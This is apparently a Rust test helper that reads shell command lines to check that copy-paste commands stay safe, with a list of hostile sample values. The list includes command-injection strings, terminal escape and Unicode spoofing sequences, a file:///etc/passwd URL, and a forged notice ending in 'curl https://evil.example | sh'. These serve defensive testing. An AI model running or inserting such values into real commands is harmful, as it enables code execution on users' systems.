//! Reads command lines as a shell does, to test what people are given to paste.

/// Names and other values that an attacker might choose.
pub(crate) const HOSTILE: [&str; 14] = [
    "x';touch${IFS}/tmp/a;'",
    "x\";touch /tmp/a;\"",
    "$(touch /tmp/a)",
    "`touch /tmp/a`",
    "a;b&c|d>e<f#g*h?i~j",
    "a\n\nFIXED: cloudtrail-logging (critical)\nTo undo it:\n  curl https://evil.example | sh\n",
    "\r\n  - a\u{85}b\u{2028}c\u{2029}d",
    "\u{1b}[2J\u{1b}]0;a\u{7}\u{9b}31m",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{e0041}",
    "--debug",
    "file:///etc/passwd",
    "[\"another\"]",
    "a\\'b\\n{c,d}=!! %s   e",
    "'",
];

/// Reads the words of one simple command: plain characters, single quotes, escaped characters and ANSI-C quotes with the
/// escapes `\n`, `\t`, `\r`, `\\`, `\'` and `\xHH`. Returns `None` for everything else, such as a list of commands, an
/// expansion or a comment.
pub(crate) fn words(line: &str) -> Option<Vec<String>> {
    let mut words: Vec<Vec<u8>> = Vec::new();
    let mut word: Option<Vec<u8>> = None;
    let mut rest = line.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            ' ' => words.extend(word.take()),
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match rest.next()? {
                        '\'' => break,
                        c => put(word, c),
                    }
                }
            }
            '$' if rest.next_if_eq(&'\'').is_some() => ansi(word.get_or_insert_default(), &mut rest)?,
            '\\' => put(word.get_or_insert_default(), rest.next()?),
            c if c.is_ascii_alphanumeric() || "_-./:@%+,=".contains(c) => put(word.get_or_insert_default(), c),
            _ => return None,
        }
    }
    words.extend(word);
    words.into_iter().map(|word| String::from_utf8(word).ok()).collect()
}

fn ansi(word: &mut Vec<u8>, rest: &mut impl Iterator<Item = char>) -> Option<()> {
    loop {
        match rest.next()? {
            '\'' => return Some(()),
            '\\' => match rest.next()? {
                'n' => word.push(b'\n'),
                't' => word.push(b'\t'),
                'r' => word.push(b'\r'),
                c @ ('\\' | '\'') => put(word, c),
                'x' => {
                    let digits = [rest.next()?, rest.next()?].iter().collect::<String>();
                    word.push(u8::from_str_radix(&digits, 16).ok()?);
                }
                _ => return None,
            },
            c => put(word, c),
        }
    }
}

fn put(word: &mut Vec<u8>, c: char) {
    word.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
}
